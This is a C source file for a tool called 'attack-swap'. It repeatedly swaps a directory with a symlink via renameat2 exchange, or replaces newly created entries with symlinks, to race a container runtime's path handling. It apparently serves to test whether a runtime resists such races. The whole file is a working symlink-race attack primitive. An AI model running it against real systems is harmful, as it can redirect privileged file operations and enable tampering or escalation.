/* An image or a neighbour that changes a path under the runtime's feet.
 *
 *   attack-swap DIR NAME TARGET
 *   attack-swap --new DIR NAME TARGET
 *
 * DIR/NAME, a directory, is exchanged with a symlink to TARGET, back and forth as fast as the
 * kernel does it, until stdin ends. Then NAME is the directory again, and the number of exchanges
 * is printed.
 *
 * With --new, DIR/NAME and DIR/NAME0 to DIR/NAME9 are not there yet. Whatever somebody makes there
 * is replaced with such a link as soon as it is seen, and the link removed again. The number of
 * those that were replaced is printed.
 */
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define RENAME_EXCHANGE_FLAG 2

static int dir;

static void
exchange (const char *a, const char *b)
{
  if (syscall (SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE_FLAG) < 0)
    {
      perror ("renameat2");
      exit (1);
    }
}

static bool
has_ended (void)
{
  struct pollfd in = { .fd = 0, .events = POLLIN };
  char c;

  return poll (&in, 1, 0) > 0 && read (0, &c, 1) <= 0;
}

/* An even number of exchanges at a time, so that the directory is in its place at the end. */
static unsigned long
exchange_all (const char *name, const char *link)
{
  unsigned long n = 0;

  do
    for (int i = 0; i < 64; i++, n++)
      exchange (name, link);
  while (!has_ended ());
  return n;
}

/* Replace DIR/@name, if it is there, with a link to @target, or @remove such a link. */
static bool
replace (const char *name, const char *link, const char *target, bool remove)
{
  struct stat st;

  if (fstatat (dir, name, &st, AT_SYMLINK_NOFOLLOW) < 0)
    return false;
  if (!S_ISLNK (st.st_mode))
    return renameat (dir, link, dir, name) == 0 && symlinkat (target, dir, link) == 0;
  if (remove)
    unlinkat (dir, name, 0);
  return false;
}

static unsigned long
replace_all (const char *prefix, const char *link, const char *target)
{
  unsigned long n = 0;
  char name[300];

  while (!has_ended ())
    for (int pass = 0; pass < 1024; pass++)
      {
        n += replace (prefix, link, target, pass == 0);
        for (int digit = 0; digit <= 9; digit++)
          {
            snprintf (name, sizeof name, "%s%d", prefix, digit);
            n += replace (name, link, target, pass == 0);
          }
      }
  return n;
}

int
main (int argc, char **argv)
{
  bool is_new = argc > 1 && strcmp (argv[1], "--new") == 0;
  unsigned long n;
  char link[300];

  argv += is_new;
  if (argc - is_new != 4)
    return 2;
  dir = open (argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  snprintf (link, sizeof link, "%s.swap", argv[2]);
  if (dir < 0 || symlinkat (argv[3], dir, link) < 0)
    {
      perror (argv[1]);
      return 1;
    }
  n = is_new ? replace_all (argv[2], link, argv[3]) : exchange_all (argv[2], link);
  unlinkat (dir, link, 0);
  printf ("%lu\n", n);
  return 0;
}
